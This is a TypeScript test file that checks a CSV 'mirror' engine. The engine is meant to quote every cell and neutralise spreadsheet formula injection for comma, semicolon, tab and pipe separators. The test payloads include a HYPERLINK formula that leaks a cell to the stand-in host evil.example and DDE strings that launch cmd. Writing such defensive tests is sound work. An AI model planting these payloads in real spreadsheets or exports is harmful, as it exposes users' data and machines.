// Second review, item 10: Data Mirror output is safe in any spreadsheet. Neutralisation looked
// only at a cell's first character and cells were written unquoted, so `ok;=…` in a comma file
// (or `ok,=…` in a semicolon file) became a formula in a spreadsheet that splits on the other
// separator. Every output cell is now quoted, and a formula character after any separator is
// neutralised too.
import { stringify } from "csv-stringify/sync";
import { describe, expect, it } from "vitest";
import { mirrorCsv } from "@/lib/mirror/engine";

async function* bytes(text: string) {
  yield Buffer.from(text);
}

async function mirror(text: string) {
  const { output } = mirrorCsv(bytes(text), {
    subject: "role:AGENT",
    token: (type, v) => `tok_${type}_${v.length}`,
    maxBytes: 10_000_000,
    maxRows: 1_000,
  });
  let out = "";
  for await (const chunk of output) out += chunk;
  return out;
}

const SEPARATORS = [",", ";", "\t", "|"];
const FORMULA = /^[=+\-@]/;

/** What a spreadsheet that splits naively on `sep` (ignoring quotes) would see as cells. */
function naiveCells(out: string, sep: string) {
  return out
    .split(/\r?\n/)
    .flatMap((line) => line.split(sep))
    .map((cell) => cell.replace(/^\s*"?\s*/, ""));
}

const payloads = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

describe("item 10: Mirror output is safe whichever separator a spreadsheet splits on", () => {
  for (const [fileSep, inner] of [
    [",", ";"],
    [";", ","],
    [",", "\t"],
    [";", "|"],
  ] as const) {
    it(`a ${JSON.stringify(fileSep)} file with ${JSON.stringify(inner)} inside cells`, async () => {
      const rows = payloads.map((p, i) => [`note ${i}`, `ok${inner}${p}`, `${i}`]);
      const out = await mirror(
        stringify([["title", "comment", "n"], ...rows], { delimiter: fileSep }),
      );
      for (const sep of SEPARATORS)
        for (const cell of naiveCells(out, sep))
          expect(cell, `split on ${JSON.stringify(sep)}`).not.toMatch(FORMULA);
    });
  }

  it("quotes every non-empty output cell, header included", async () => {
    const out = await mirror("title,comment\nhello,world\nplain,text\n");
    const lines = out.trim().split("\n");
    for (const line of lines) expect(line).toMatch(/^"[^"]*"(,"[^"]*")*$/);
  });
});
